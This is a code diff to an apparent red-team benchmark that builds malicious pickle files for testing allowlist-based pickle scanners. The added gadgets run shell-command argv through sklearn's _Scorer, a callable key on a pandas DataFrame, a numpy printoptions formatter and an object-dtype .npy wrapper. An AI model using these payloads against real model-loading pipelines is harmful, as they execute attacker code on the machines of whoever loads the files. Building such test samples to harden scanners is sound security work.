@@ -21,7 +21,7 @@ from __future__ import annotations
 import struct
 
 from benchmarks.redteam.pickles import (BUILD, EMPTY_LIST, EMPTY_TUPLE, MARK, NEWFALSE, NEWOBJ, NEWTRUE, NONE, PROTO4,
-                                        STOP, TUPLE, call, dict_state, glob4, s)
+                                        STOP, TUPLE, call, dict_state, glob4, i, s)
 from benchmarks.redteam.sample import PROC_ARGV, Sample
 
 F = "hidden-calls"
@@ -57,8 +57,8 @@ def cached_call_transform(func: bytes, x: bytes) -> bytes:
     return PROTO4 + call(CACHED_CALL, NONE, function_transformer(func), s("transform"), x) + STOP
 
 
-def cached_call_pipeline_memory(folder: str) -> bytes:
-    """_cached_call(None, Pipeline([scaler, regression], memory=folder), 'fit', X): joblib.Memory makes the folder."""
+def _memory_pipeline(folder: str) -> bytes:
+    """Pipeline([scaler, regression], memory=folder): its fit makes joblib.Memory create the folder."""
     scaler = _estimator("sklearn.preprocessing._data", "StandardScaler",
                         {"with_mean": NEWTRUE, "with_std": NEWTRUE, "copy": NEWTRUE})
     regression = _estimator("sklearn.linear_model._base", "LinearRegression",
@@ -66,8 +66,24 @@ def cached_call_pipeline_memory(folder: str) -> bytes:
     steps = _list(MARK + s("scale") + scaler + TUPLE, MARK + s("model") + regression + TUPLE)
     pipe = _estimator("sklearn.pipeline", "Pipeline", {"steps": steps, "transform_input": NONE, "memory": s(folder),
                                                          "verbose": NEWFALSE})
-    x = _list(_list(_float(1.0)), _list(_float(2.0)))
-    return PROTO4 + call(CACHED_CALL, NONE, pipe, s("fit"), x) + STOP
+    return pipe
+
+
+def _x() -> bytes:
+    return _list(_list(_float(1.0)), _list(_float(2.0)))
+
+
+def cached_call_pipeline_memory(folder: str) -> bytes:
+    """_cached_call(None, Pipeline(..., memory=folder), 'fit', X)."""
+    return PROTO4 + call(CACHED_CALL, NONE, _memory_pipeline(folder), s("fit"), _x()) + STOP
+
+
+def scorer_instance_call(folder: str) -> bytes:
+    """A _Scorer rebuilt by NEWOBJ + BUILD with response method 'fit', then called: scorer(pipeline, X, None)
+    runs _Scorer.__call__ -> _score -> _cached_call -> pipeline.fit(X)."""
+    scorer = _estimator("sklearn.metrics._scorer", "_Scorer", {
+        "_score_func": glob4("numpy", "mean"), "_sign": i(1), "_kwargs": dict_state({}), "_response_method": s("fit")})
+    return PROTO4 + call(scorer, _memory_pipeline(folder), _x(), NONE) + STOP
 
 
 def check_response_method_getattr() -> bytes:
@@ -88,10 +104,41 @@ def partial_outer_args(func: bytes, *args: bytes) -> bytes:
     return PROTO4 + call(call(glob4("functools", "partial"), func), *args) + STOP
 
 
+def dataframe_setitem_callable_key(func: bytes) -> bytes:
+    """df = DataFrame({'sh': [1], '-c': [1], CMD: [1]}); df[func] = 1 (SETITEM on the frame): DataFrame.__setitem__
+    calls a callable key with the frame, and list(frame) is its column labels: argv."""
+    columns = dict_state({a: _list(i(1)) for a in PROC_ARGV})
+    frame = call(glob4("pandas.core.frame", "DataFrame"), columns)
+    return PROTO4 + frame + func + i(1) + b"s" + STOP
+
+
+def object_array(item: bytes) -> bytes:
+    """A one-element object ndarray as numpy pickles it: _reconstruct, then BUILD (1, (1,), dtype('O8'), False, [item])."""
+    dtype = (call(glob4("numpy", "dtype"), s("O8"), NEWFALSE, NEWTRUE)
+             + MARK + i(3) + s("|") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" * 2 + i(63) + TUPLE + BUILD)
+    made = call(glob4("numpy._core.multiarray", "_reconstruct"), glob4("numpy", "ndarray"), MARK + i(0) + TUPLE,
+                b"C\x01b")
+    return made + MARK + i(1) + MARK + i(1) + TUPLE + dtype + NEWFALSE + _list(item) + TUPLE + BUILD
+
+
+def printoptions_formatter(func: bytes) -> bytes:
+    """numpy.set_printoptions(..., formatter={'all': func}) (process-wide), then numpy.array_str(array([argv])):
+    the formatter is called on every element printed, here and whenever the program prints an array later."""
+    options = call(glob4("numpy", "set_printoptions"), *([NONE] * 7), dict_state({"all": func}))
+    return PROTO4 + options + b"0" + call(glob4("numpy", "array_str"), object_array(_argv())) + STOP
+
+
 def piecewise(func: bytes) -> bytes:
     """numpy.piecewise(argv, [True, True, True], [func]): func(x[cond]) is func(array(argv))."""
     conds = _list(*([NEWTRUE] * len(PROC_ARGV)))
     return PROTO4 + call(glob4("numpy", "piecewise"), _argv(), conds, _list(func)) + STOP
+
+
+def npy_object(pickle: bytes) -> bytes:
+    """An .npy file of object dtype: numpy.load(allow_pickle=True) unpickles the payload."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (-(len(header) + 11) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle
 
 
 def _p(data: bytes) -> dict[str, bytes]:
@@ -120,6 +167,18 @@ SAMPLES = [
            "functools.partial(__generator_ctor)(argv, run_check): run_check is an argument of the call of a partial "
            "object, not of __generator_ctor's own REDUCE", lambda: _p(partial_outer_args(
                glob4("numpy.random._pickle", "__generator_ctor"), _argv(), RUN_CHECK))),
+    Sample("scorer_instance_call_pipeline_memory", F, "pickle.load", "file",
+           "only allowlisted imports and no allowlisted function called: REDUCE calls an instance of _Scorer the "
+           "pickle rebuilt (NEWOBJ + BUILD, response method 'fit'); _Scorer.__call__ calls pipeline.fit(X)",
+           lambda: _p(scorer_instance_call("pwned_cache"))),
+    Sample("dataframe_setitem_callable_key_run_check", F, "pandas.read_pickle", "process",
+           "SETITEM on an allowlisted DataFrame with an import as the key: DataFrame.__setitem__ calls a callable key "
+           "with the frame (com.apply_if_callable); run_check(frame) runs list(frame), the column labels",
+           lambda: {"frame.pkl": dataframe_setitem_callable_key(RUN_CHECK)}),
+    Sample("numpy_printoptions_formatter_run_check", F, "numpy.load", "process",
+           "numpy.set_printoptions (allowlisted) takes a formatter dict whose callables numpy.array_str (allowlisted) "
+           "calls on each element; the formatter stays installed for the whole process",
+           lambda: {"arrays.npy": npy_object(printoptions_formatter(RUN_CHECK))}),
     Sample("numpy_piecewise_funclist_run_check", F, "joblib.load", "process",
            "numpy.piecewise (allowlisted, calls no positional argument) calls the items of its funclist: graphviz's "
            "run_check inside a list gets array(argv)", lambda: {"model.joblib": piecewise(RUN_CHECK)}),
